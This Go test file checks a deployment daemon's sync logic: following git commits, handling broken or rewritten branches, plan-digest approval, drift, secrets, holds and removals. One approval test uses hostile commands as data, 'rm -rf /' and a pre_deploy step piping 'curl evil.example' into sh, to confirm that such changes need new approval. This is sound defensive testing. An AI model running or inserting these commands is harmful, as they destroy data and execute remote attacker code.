package sync

import (
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/varanhq/varan/agent/protocol"
	"github.com/varanhq/varan/apply"
	"github.com/varanhq/varan/plan"
	"github.com/varanhq/varan/schema"
)

const composeFile = "services:\n  web:\n    image: demo\n    environment:\n      K: a\n"

func TestFollowsCommits(t *testing.T) {
	w := follow(t)
	first := w.git.Push(map[string]string{"a.toml": deployment("a", "1"), "z.toml": deployment("z", "1"), "s.toml": stack("s"), "s/compose.yaml": composeFile})
	w.start()
	r := w.rep.applied(first)
	if !r.Result.OK() || r.Plan.Commit != first {
		t.Errorf("%+v", r.Result)
	}
	got := w.host.did()
	slices.Sort(got)
	if !slices.Equal(got, []string{"deploy deployment/a", "deploy deployment/z", "deploy stack/s"}) {
		t.Errorf("ops %q", got)
	}
	if p := w.host.payloads["stack/s"]; len(p.Files) != 1 || p.Files[0].Path != "s/compose.yaml" || string(p.Files[0].Data) != composeFile {
		t.Errorf("payload %+v", p)
	}
	// A commit that touches nothing of ours.
	w.until("rest", func(s Status) bool { return s.Syncs[0].State == "ok" && len(s.Running) == 0 })
	n := len(w.host.did())
	other := w.git.Push(map[string]string{"README.md": "hello"})
	w.rep.applied(other)
	// One stack's file.
	third := w.git.Push(map[string]string{"s/compose.yaml": strings.Replace(composeFile, "K: a", "K: b", 1)})
	r = w.rep.applied(third)
	if got := w.host.did()[n:]; !slices.Equal(got, []string{"deploy stack/s"}) {
		t.Errorf("ops %q", got)
	}
	if r.Plan.Step("stack/s").Action == plan.None || r.Plan.Step("deployment/a").Action != plan.None {
		t.Errorf("plan %+v", r.Plan.Summary)
	}
	// Gone from the files: removed.
	fourth := w.git.Push(map[string]string{"a.toml": ""})
	w.rep.applied(fourth)
	if w.host.names() != "s-web-1 z" {
		t.Errorf("left %q", w.host.names())
	}
	s := w.Status()
	if !s.Ready || s.Syncs[0].Applied != fourth {
		t.Errorf("%+v", s)
	}
}

func TestBrokenCommitKeepsTheGoodOne(t *testing.T) {
	w := follow(t)
	good := w.git.Push(map[string]string{"a.toml": deployment("a", "1")})
	w.start()
	w.rep.applied(good)
	w.git.Push(map[string]string{"a.toml": deployment("a", "2"), "b.toml": "[[stak]]\nname = 1\n", "c.toml": "x = ["})
	r := w.rep.next()
	if r.Stage != StageBroken || len(r.Diagnostics.Errors()) < 2 {
		t.Fatalf("got %s %v", r.Stage, r.Diagnostics)
	}
	w.until("broken", func(s Status) bool { return s.Syncs[0].State == "broken" })
	w.host.kill("a") // the last good commit is still looked after
	r = w.rep.next()
	if r.Stage != StageApplied || r.Commit != good || r.Trigger != triggerDrift || w.host.names() != "a" {
		t.Errorf("got %s %s %s, %q", r.Stage, r.Commit, r.Trigger, w.host.names())
	}
	if s := w.Status().Syncs[0]; s.Good != good {
		t.Errorf("%+v", s)
	}
	mended := w.git.Push(map[string]string{"a.toml": deployment("a", "2"), "b.toml": "", "c.toml": ""})
	w.rep.applied(mended)
	w.until("well again", func(s Status) bool {
		return s.Syncs[0].State == "ok" && s.Problem == "" && !schema.Diagnostics(s.Syncs[0].Diagnostics).HasErrors()
	})
}

// TestBrokenBeforeTheStart: a daemon that starts while the newest commit is broken looks after the one applied last,
// lets its agents in, and can preview what mends the branch.
func TestBrokenBeforeTheStart(t *testing.T) {
	enrolled := make(chan map[string]string, 10)
	w := follow(t, func(o *Options) {
		o.Enrol = func(keys map[string]string) error { enrolled <- keys; return nil }
	})
	here := func(name string) string {
		return strings.Replace(deployment(name, "1"), "[deployment.config]\n", "[deployment.config]\nserver = \"local\"\n", 1)
	}
	good := w.git.Push(map[string]string{"a.toml": here("a"), "srv.toml": "[[server]]\nname = \"far\"\n[server.config]\nenabled = false\npublic_key = \"UAXBPYXGBVKVPRNXWEZRZJ7NK2CRGRHRWMXEEIBYXXWWRRH3OQSPR2CF\"\n[[server]]\nname = \"local\"\n[server.config]\naddress = \"local\"\n"})
	w.start()
	w.rep.applied(good)
	<-enrolled
	w.stop()
	broken := w.git.Push(map[string]string{"b.toml": "[[stak]]\nname = 1\n"})
	w.start()
	if r := w.rep.next(); r.Stage != StageBroken || r.Commit != broken {
		t.Fatalf("got %s of %s", r.Stage, r.Commit)
	}
	if keys := <-enrolled; keys["far"] == "" {
		t.Errorf("enrolled: %v", keys)
	}
	if basis, commit := w.Basis(); basis == "" || commit != good {
		t.Errorf("previews are made against %q, %q", basis, commit)
	}
	head, merge := propose(t, w.git, 4, map[string]string{"b.toml": here("b")})
	p, err := w.preview(Subject{Ref: "refs/pull/4/merge", Commit: merge, Merges: []string{broken, head}})
	if err != nil {
		t.Fatal(err)
	}
	if s := p.Plan.Step("deployment/b"); p.Broken || s == nil || s.Action != plan.Create {
		t.Errorf("%+v", p.Plan)
	}
	w.host.kill("a")
	if r := w.rep.next(); r.Stage != StageApplied || r.Commit != good || r.Trigger != triggerDrift || w.host.names() != "a" {
		t.Errorf("got %s %s %s, %q", r.Stage, r.Commit, r.Trigger, w.host.names())
	}
}

func TestBrokenComposeFileIsABrokenCommit(t *testing.T) {
	w := follow(t)
	first := w.git.Push(map[string]string{"a.toml": deployment("a", "1") + stack("s"), "s/compose.yaml": composeFile})
	w.start()
	w.rep.applied(first)
	w.git.Push(map[string]string{"a.toml": deployment("a", "2") + stack("s"), "s/compose.yaml": "services: [\n"})
	r := w.rep.next()
	if r.Stage != StageBroken || !strings.Contains(r.Diagnostics.Errors()[0].File, "compose.yaml") {
		t.Fatalf("got %s %+v", r.Stage, r.Diagnostics)
	}
	if w.host.payloads["deployment/a"].Deployment.Environment[0].Value != "1" {
		t.Error("a commit with a broken compose file was applied in part")
	}
	third := w.git.Push(map[string]string{"s/compose.yaml": composeFile})
	w.rep.applied(third)
	if w.host.payloads["deployment/a"].Deployment.Environment[0].Value != "2" {
		t.Error("the mended commit was not applied")
	}
}

// TestApprovalIsOfWhatIsMade: what creates the same resources otherwise is another plan to approve, though it shows the
// same steps: other values, another command, another pre_deploy.
func TestApprovalIsOfWhatIsMade(t *testing.T) {
	w := follow(t, func(o *Options) { o.Settings.Config.Apply = "manual" })
	files := map[string]string{"a.toml": deployment("a", "1"), "s.toml": stack("s"), "s/compose.yaml": composeFile}
	w.git.Push(files)
	w.start()
	seen := map[string]bool{w.rep.next().Plan.Digest: true}
	for _, change := range []map[string]string{
		{"a.toml": deployment("a", "2")},
		{"a.toml": strings.Replace(deployment("a", "2"), "environment =", "command = \"rm -rf /\"\nenvironment =", 1)},
		{"s/compose.yaml": strings.Replace(composeFile, "K: a", "K: b", 1)},
		{"s.toml": stack("s") + "pre_deploy = { command = \"curl evil.example | sh\" }\n"},
	} {
		w.git.Push(change)
		r := w.rep.next()
		if r.Stage != StagePlanned || seen[r.Plan.Digest] {
			t.Errorf("%v: %s, its digest %s was shown before for something else", change, r.Stage, r.Plan.Digest)
		}
		seen[r.Plan.Digest] = true
	}
	w.git.Push(map[string]string{"README.md": "nothing of ours"}) // the same steps of a later commit
	if r := w.rep.next(); !seen[r.Plan.Digest] {
		t.Error("a commit that changes nothing of ours is another plan")
	}
}

// TestApprovedAndChanged: where the plan made now is not the approved one, nothing is applied, and the new one is told
// and may be approved.
func TestApprovedAndChanged(t *testing.T) {
	w := follow(t, func(o *Options) { o.Settings.Config.Apply = "manual" })
	first := w.git.Push(map[string]string{"a.toml": deployment("a", "1")})
	w.start()
	if err := w.Approve(t.Context(), w.rep.next().Plan.Digest, "ann"); err != nil {
		t.Fatal(err)
	}
	w.rep.applied(first)
	second := w.git.Push(map[string]string{"b.toml": deployment("b", "1") + deployment("c", "1")})
	old := w.rep.next()
	w.host.mu.Lock()
	w.host.holds = append(w.host.holds, plan.Hold{Resource: "deployment/c", Kind: plan.HoldUser})
	w.host.mu.Unlock()
	if err := w.Approve(t.Context(), old.Plan.Digest, "ann"); !errors.Is(err, ErrChanged) {
		t.Fatalf("it ended with %v", err)
	}
	if got := w.host.names(); got != "a" {
		t.Errorf("applied: %q", got)
	}
	fresh := w.rep.next()
	if fresh.Stage != StagePlanned || fresh.Plan.Digest == old.Plan.Digest || !strings.Contains(strings.Join(fresh.Plan.Asks, " "), "no longer the plan") {
		t.Fatalf("got %s %v", fresh.Stage, fresh.Plan.Asks)
	}
	if err := w.Approve(t.Context(), fresh.Plan.Digest, "ann"); err != nil {
		t.Fatal(err)
	}
	w.rep.applied(second)
	if got := w.host.names(); got != "a b" {
		t.Errorf("%q", got)
	}
}

func TestRewrittenBranch(t *testing.T) {
	w := follow(t, func(o *Options) { o.Timing.Rewritten = 2 * time.Second })
	first := w.git.Push(map[string]string{"a.toml": deployment("a", "1")})
	w.start()
	w.rep.applied(first)
	second := w.git.Push(map[string]string{"a.toml": deployment("a", "2")})
	w.rep.applied(second)

	w.git.Git("reset", "-q", "--hard", first)
	amended := w.git.Commit(map[string]string{"a.toml": deployment("a", "3")})
	at := time.Now()
	w.git.Send()
	if r := w.rep.next(); r.Stage != StageWaiting {
		t.Fatalf("rebased: got %s", r.Stage)
	}
	w.host.kill("a") // what goes on meanwhile is of the commit that was let through
	w.rep.applied(second)
	w.until("waiting", func(s Status) bool { return s.Syncs[0].State == "waiting" })
	w.rep.applied(amended)
	if d := time.Since(at); d < 2*time.Second {
		t.Errorf("taken after %s", d)
	}

	w.git.Git("reset", "-q", "--hard", first)
	w.git.Send()
	r := w.rep.next()
	if r.Stage != StagePlanned || !strings.Contains(strings.Join(r.Plan.Asks, " "), "set back") {
		t.Fatalf("reset: got %s %v", r.Stage, r.Plan)
	}
	if got := w.host.payloads["deployment/a"].Deployment.Environment[0].Value; got != "3" {
		t.Errorf("applied without approval: %q", got)
	}
	w.until("asking", func(s Status) bool { return s.Syncs[0].State == "asking" && s.Syncs[0].Digest == r.Plan.Digest })
	if err := w.Approve(t.Context(), "nope", "ann"); !errors.Is(err, ErrNotAsked) {
		t.Errorf("got %v", err)
	}
	if err := w.Approve(t.Context(), r.Plan.Digest, "ann"); err != nil {
		t.Fatal(err)
	}
	w.rep.applied(first)

	w.git.Git("checkout", "-q", "--orphan", "fresh")
	w.git.Commit(map[string]string{"a.toml": deployment("a", "4")})
	w.git.Send()
	if r := w.rep.next(); r.Stage != StagePlanned || !strings.Contains(strings.Join(r.Plan.Asks, " "), "no known history") {
		t.Fatalf("orphan: got %s %v", r.Stage, r.Plan)
	}
}

func TestDeletedBranchIsAnError(t *testing.T) {
	w := follow(t)
	first := w.git.Push(map[string]string{"a.toml": deployment("a", "1")})
	w.start()
	w.rep.applied(first)
	w.git.Git("push", "-q", "origin", "HEAD:other")
	gitDir(t, w.git.Bare, "symbolic-ref", "HEAD", "refs/heads/other")
	w.git.Git("push", "-q", "origin", ":main")
	if r := w.rep.next(); r.Stage != StageUnreachable || !strings.Contains(r.Err.Error(), "no such branch") {
		t.Fatalf("got %s %v", r.Stage, r.Err)
	}
	w.host.kill("a") // drift is still put right
	w.rep.applied(first)
	if w.host.names() != "a" {
		t.Error("not put right")
	}
}

func TestEmptyRepositoryIsAnError(t *testing.T) {
	w := follow(t)
	w.start()
	if r := w.rep.next(); r.Stage != StageUnreachable {
		t.Fatalf("got %s", r.Stage)
	}
	if s := w.Status(); s.Ready || s.Syncs[0].State != "unreachable" {
		t.Errorf("%+v", s.Syncs[0])
	}
	first := w.git.Push(map[string]string{"a.toml": deployment("a", "1")})
	w.rep.applied(first)
}

func TestRestartKnowsWhatWasApplied(t *testing.T) {
	w := follow(t)
	first := w.git.Push(map[string]string{"a.toml": deployment("a", "1")})
	w.start()
	w.rep.applied(first)
	w.stop()
	n := len(w.host.did())
	w.start()
	w.rep.applied(first)
	if got := w.host.did()[n:]; len(got) != 0 {
		t.Errorf("a restart did %q", got)
	}
	w.stop()
	second := w.git.Commit(map[string]string{"a.toml": deployment("a", "2")})
	w.git.Git("commit", "-q", "--amend", "-m", "x")
	w.git.Git("reset", "-q", "--hard", first)
	w.git.Git("commit", "-q", "--amend", "--allow-empty", "-m", "rewritten")
	w.git.Send()
	_ = second
	w.start()
	if r := w.rep.next(); r.Stage != StageWaiting && r.Stage != StagePlanned {
		t.Errorf("a branch rewritten while the daemon was down: got %s", r.Stage)
	}
	// Amnesia: without its data the daemon takes the tip, and there is nothing to do.
	w.stop()
	if err := os.RemoveAll(w.opts.DataDir); err != nil {
		t.Fatal(err)
	}
	w.start()
	w.rep.applied(w.git.Head())
	if got := w.host.did()[n:]; len(got) != 0 {
		t.Errorf("amnesia did %q", got)
	}
}

func TestDriftReport(t *testing.T) {
	w := follow(t, func(o *Options) { o.Settings.Config.Drift = "report" })
	first := w.git.Push(map[string]string{"a.toml": deployment("a", "1")})
	w.start()
	w.rep.applied(first)
	n := len(w.host.did())
	w.host.kill("a")
	w.until("shown", func(s Status) bool {
		return len(s.Resources) == 1 && s.Resources[0].State == "absent" && len(s.Running) == 0
	})
	if got := w.host.did()[n:]; len(got) != 0 {
		t.Errorf("did %q", got)
	}
}

func TestContested(t *testing.T) {
	w := follow(t)
	first := w.git.Push(map[string]string{"a.toml": deployment("a", "1")})
	w.start()
	w.rep.applied(first)
	for range 3 {
		w.until("a runs", func(Status) bool { return w.host.names() == "a" })
		w.host.kill("a")
	}
	w.until("held", func(s Status) bool { return len(s.Holds) == 1 && s.Holds[0].Kind == plan.HoldContested })
}

func TestSecrets(t *testing.T) {
	w := follow(t, func(o *Options) { o.Settings.Secrets = map[string]protocol.Secret{"PASS": "one", "OTHER": "x"} })
	first := w.git.Push(map[string]string{
		"a.toml": deployment("a", "[[PASS]]-[[WORLD]]"), "b.toml": deployment("b", "1"),
		"v.toml": "[[variable]]\nname = \"WORLD\"\nvalue = \"world\"\n",
	})
	w.start()
	w.rep.applied(first)
	p := w.host.payloads["deployment/a"]
	if got := p.Deployment.Environment[0].Value; got != "[[PASS]]-world" {
		t.Errorf("environment %q", got)
	}
	if len(p.Secrets) != 1 || p.Secrets["PASS"] != "one" {
		t.Errorf("%d secrets sent", len(p.Secrets))
	}
	if len(w.host.payloads["deployment/b"].Secrets) != 0 {
		t.Error("a secret went to who does not name it")
	}
	set := w.opts.Settings
	set.Secrets = map[string]protocol.Secret{"PASS": "two", "OTHER": "x"}
	if err := w.Reload(set); err != nil {
		t.Fatal(err)
	}
	w.until("sent", func(Status) bool {
		w.host.mu.Lock()
		defer w.host.mu.Unlock()
		return w.host.payloads["deployment/a"].Secrets["PASS"] == "two"
	})
	if n := strings.Count(strings.Join(w.host.did(), ","), "deployment/b"); n != 1 {
		t.Errorf("b was touched %d times", n)
	}
}

func TestSupersededByNewerCommit(t *testing.T) {
	w := follow(t)
	block := make(chan struct{})
	w.host.block = block
	w.git.Push(map[string]string{"a.toml": deployment("a", "1"), "b.toml": strings.Replace(deployment("b", "1"), "deploy = true", "deploy = true\nafter = [\"a\"]", 1)})
	w.start()
	w.until("running", func(s Status) bool { return len(s.Running) == 1 })
	second := w.git.Push(map[string]string{"b.toml": deployment("b", "2")})
	w.until("seen", func(s Status) bool { return s.Syncs[0].Tip == second })
	w.host.mu.Lock()
	w.host.block = nil
	w.host.mu.Unlock()
	close(block)
	w.rep.applied(second)
	if got := w.host.payloads["deployment/b"].Deployment.Environment[0].Value; got != "2" {
		t.Errorf("b has %q", got)
	}
	if n := strings.Count(strings.Join(w.host.did(), ","), "deploy deployment/b"); n != 1 {
		t.Errorf("b was deployed %d times", n)
	}
}

func TestManualAsks(t *testing.T) {
	w := follow(t, func(o *Options) { o.Settings.Config.Apply = "manual" })
	first := w.git.Push(map[string]string{"a.toml": deployment("a", "1")})
	w.start()
	r := w.rep.next()
	if r.Stage != StagePlanned || len(w.host.did()) != 0 {
		t.Fatalf("got %s, ops %q", r.Stage, w.host.did())
	}
	w.until("asking", func(s Status) bool { return s.Syncs[0].State == "asking" })
	if err := w.Approve(t.Context(), r.Plan.Digest, "ann"); err != nil {
		t.Fatal(err)
	}
	w.rep.applied(first)
	runs, err := w.Runs(t.Context(), 10)
	if err != nil || len(runs) != 1 || runs[0].Actor != "ann" {
		t.Errorf("%+v, %v", runs, err)
	}
	run, err := w.RunByID(t.Context(), runs[0].ID)
	if err != nil || len(run.Steps) != 1 || run.Steps[0].Status != string(apply.StatusDone) {
		t.Errorf("%+v, %v", run, err)
	}
}

func TestPauseHoldRemove(t *testing.T) {
	w := follow(t, func(o *Options) { o.Settings.Config.Delete = false })
	first := w.git.Push(map[string]string{"a.toml": deployment("a", "1"), "b.toml": deployment("b", "1")})
	w.start()
	w.rep.applied(first)
	if err := w.Pause(t.Context(), PauseRequest{Reason: "moving"}); err != nil {
		t.Fatal(err)
	}
	second := w.git.Push(map[string]string{"b.toml": ""})
	w.until("paused", func(s Status) bool {
		return s.Syncs[0].State == "paused" && s.Syncs[0].Tip == second && s.Paused.Reason == "moving"
	})
	if err := w.Pause(t.Context(), PauseRequest{Off: true}); err != nil {
		t.Fatal(err)
	}
	w.rep.applied(second)
	if w.host.names() != "a b" {
		t.Errorf("delete = false removed something: %q", w.host.names())
	}
	if _, err := w.Remove(t.Context(), "deployment/a", "ann", nil); err == nil {
		t.Error("a declared resource was removed")
	}
	if _, err := w.Remove(t.Context(), "deployment/zz", "ann", nil); !errors.Is(err, ErrUnknown) {
		t.Errorf("got %v", err)
	}
	if res, err := w.Remove(t.Context(), "deployment/b", "ann", nil); err != nil || !res.OK() || w.host.names() != "a" {
		t.Errorf("%+v, %v, %q", res, err, w.host.names())
	}
	if err := w.Hold(t.Context(), HoldRequest{Resource: "deployment/a", Reason: "look"}); err != nil {
		t.Fatal(err)
	}
	w.until("held", func(s Status) bool { return len(s.Holds) == 1 })
	third := w.git.Push(map[string]string{"a.toml": deployment("a", "9")})
	r := w.rep.applied(third)
	if got := r.Plan.Step("deployment/a").Action; got != plan.Held {
		t.Errorf("%s", got)
	}
	if err := w.Hold(t.Context(), HoldRequest{Resource: "deployment/a", Off: true}); err != nil {
		t.Fatal(err)
	}
	w.until("applied", func(Status) bool {
		w.host.mu.Lock()
		defer w.host.mu.Unlock()
		return w.host.payloads["deployment/a"].Deployment.Environment[0].Value == "9"
	})
}

// TestStatusOfFailures: whoever looks is told first that something is not as declared, and why; once it is declared
// otherwise and runs, nothing is told of it any more.
func TestStatusOfFailures(t *testing.T) {
	w := follow(t, func(o *Options) { o.Timing.RetryMin, o.Timing.RetryMax = time.Hour, time.Hour })
	w.git.Push(map[string]string{"a.toml": deployment("a", "1")})
	w.start()
	w.until("deployed", func(s Status) bool { return w.host.names() == "a" && s.Syncs[0].State == "ok" })
	w.host.mu.Lock()
	w.host.outcome = func(op protocol.Op) *protocol.Outcome {
		if op.Verb == protocol.Prepare {
			return &protocol.Outcome{ID: op.ID, Status: protocol.Failed, Error: "registry down"}
		}
		return nil
	}
	w.host.mu.Unlock()
	w.git.Push(map[string]string{"a.toml": deployment("a", "2")})
	w.until("told", func(s Status) bool {
		return len(s.Running) == 0 && s.Syncs[0].State == "retrying" && s.Problem != "" && len(s.Holds) == 1 &&
			strings.HasPrefix(s.Holds[0].Reason, "registry down") && !s.Holds[0].Since.IsZero()
	})
	w.git.Push(map[string]string{"a.toml": deployment("a", "1")})
	w.until("well again", func(s Status) bool {
		return len(s.Running) == 0 && s.Syncs[0].State == "ok" && s.Problem == "" && len(s.Holds) == 0
	})
}

// TestFailureMendedFromFolder: what a person carried out from a folder does not stay held for having failed before.
func TestFailureMendedFromFolder(t *testing.T) {
	w := follow(t, func(o *Options) { o.Timing.RetryMin, o.Timing.RetryMax = time.Hour, time.Hour })
	fails := func(op protocol.Op) *protocol.Outcome {
		if op.Verb == protocol.Prepare {
			return &protocol.Outcome{ID: op.ID, Status: protocol.Failed, Error: "registry down"}
		}
		return nil
	}
	w.host.outcome = fails
	w.git.Push(map[string]string{"a.toml": deployment("a", "1")})
	w.start()
	w.until("failed", func(s Status) bool { return len(s.Holds) == 1 && s.Syncs[0].State == "retrying" })
	w.host.mu.Lock()
	w.host.outcome = nil
	w.host.mu.Unlock()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "a.toml"), []byte(deployment("a", "1")), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, res, err := w.Apply(t.Context(), ApplyRequest{PlanRequest: PlanRequest{Dir: dir}}, nil); err != nil || !res.OK() {
		t.Fatal(res, err)
	}
	w.until("mended", func(s Status) bool {
		return len(s.Holds) == 0 && s.Problem == "" && s.Syncs[0].State == "ok" && s.Resources[0].State == "running"
	})
}

func TestRetriesWhatStoppedNothing(t *testing.T) {
	w := follow(t)
	tries := 0
	w.host.outcome = func(op protocol.Op) *protocol.Outcome {
		if op.Verb == protocol.Prepare && tries < 2 {
			tries++
			return &protocol.Outcome{ID: op.ID, Status: protocol.Failed, Error: "registry down"}
		}
		return nil
	}
	w.git.Push(map[string]string{"a.toml": deployment("a", "1")})
	w.start()
	w.until("deployed", func(Status) bool { return w.host.names() == "a" })
	w.until("ok", func(s Status) bool { return s.Syncs[0].State == "ok" })
}

func TestPlainFolder(t *testing.T) {
	dir := t.TempDir()
	write := func(name, text string) {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("a.toml", deployment("a", "1"))
	w := follow(t, func(o *Options) { o.Settings.Config.URL = dir })
	w.start()
	w.until("a", func(Status) bool { return w.host.names() == "a" })
	w.until("rest", func(s Status) bool { return len(s.Running) == 0 && s.Syncs[0].State == "ok" })
	write("b.toml", deployment("b", "1"))
	w.until("b", func(Status) bool { return w.host.names() == "a b" })
	write("c.toml", "x = [")
	w.until("broken", func(s Status) bool { return s.Syncs[0].State == "broken" })
	w.host.kill("a")
	w.until("a again", func(Status) bool { return w.host.names() == "a b" })
}

func TestLocalPlanAndApply(t *testing.T) {
	w := follow(t)
	commit := w.git.Commit(map[string]string{"a.toml": deployment("a", "1")})
	w.git.Write(map[string]string{"a.toml": deployment("a", "2")})
	l, err := OpenFolder(t.Context(), w.git.Work, w.opts)
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	p, err := l.Plan(t.Context(), PlanRequest{})
	if err != nil || p.Summary[plan.Create] != 1 || !l.Uncommitted() {
		t.Fatalf("%+v, %v", p, err)
	}
	res, err := l.Apply(t.Context(), p, "ann", nil)
	if err != nil || !res.OK() {
		t.Fatalf("%+v, %v", res, err)
	}
	again, err := l.Plan(t.Context(), PlanRequest{})
	if err != nil || again.Changes() {
		t.Errorf("%+v, %v", again.Summary, err)
	}
	c, err := OpenRepo(t.Context(), w.git.Work, "HEAD", w.opts)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	p, err = c.Plan(t.Context(), PlanRequest{})
	if err != nil || p.Commit != commit || !p.Changes() {
		t.Errorf("%+v, %v", p, err)
	}
}

func TestStackFromAnotherRepository(t *testing.T) {
	w := follow(t)
	other := follow(t)
	other.git.Push(map[string]string{"x/compose.yaml": composeFile})
	url := strings.Replace(other.opts.Settings.Config.URL, "http://", "", 1)
	host, repo, _ := strings.Cut(url, "/")
	toml := "[[repo]]\nname = \"files\"\n[repo.config]\ngit_provider = \"" + host + "\"\ngit_https = false\nrepo = \"" + repo +
		"\"\n[[stack]]\nname = \"s\"\ndeploy = true\n[stack.config]\nlinked_repo = \"files\"\nrun_directory = \"x\"\n"
	first := w.git.Push(map[string]string{"s.toml": toml})
	w.start()
	w.rep.applied(first)
	if w.host.names() != "s-web-1" {
		t.Fatalf("%q", w.host.names())
	}
	if got := w.host.payloads["stack/s"].Repo; got != "http://"+url {
		t.Errorf("repo %q", got)
	}
	before := w.host.payloads["stack/s"].Units[0].Digest
	other.git.Push(map[string]string{"x/compose.yaml": strings.Replace(composeFile, "K: a", "K: z", 1)})
	w.until("followed", func(Status) bool {
		w.host.mu.Lock()
		defer w.host.mu.Unlock()
		return w.host.payloads["stack/s"].Units[0].Digest != before
	})
}

var _ schema.ID
